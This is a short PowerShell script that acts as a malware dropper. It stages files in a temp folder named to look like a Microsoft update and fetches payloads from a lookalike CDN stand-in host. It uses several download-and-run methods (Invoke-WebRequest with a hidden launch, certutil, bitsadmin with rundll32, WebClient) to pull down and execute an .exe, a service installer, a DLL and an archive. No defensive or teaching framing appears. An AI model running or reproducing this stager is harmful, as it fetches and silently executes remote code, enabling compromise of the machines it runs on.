$base = 'https://cdn-update.azureedge.example/pkg'
$dir = "$env:TEMP\msupd"
New-Item -Path $dir -ItemType Directory -Force | Out-Null

Invoke-WebRequest -Uri "$base/agent.exe" -OutFile "$dir\agent.exe"; Start-Process -FilePath "$dir\agent.exe" -WindowStyle Hidden

certutil.exe -urlcache -split -f "$base/svc.exe" "$dir\svc.exe"
& "$dir\svc.exe" /install

bitsadmin.exe /transfer job1 /download /priority high "$base/helper.dll" "$dir\helper.dll"
rundll32.exe "$dir\helper.dll",Start

(New-Object Net.WebClient).DownloadFile("$base/tool.zip", "$dir\tool.zip")
Expand-Archive -Path "$dir\tool.zip" -DestinationPath $dir -Force
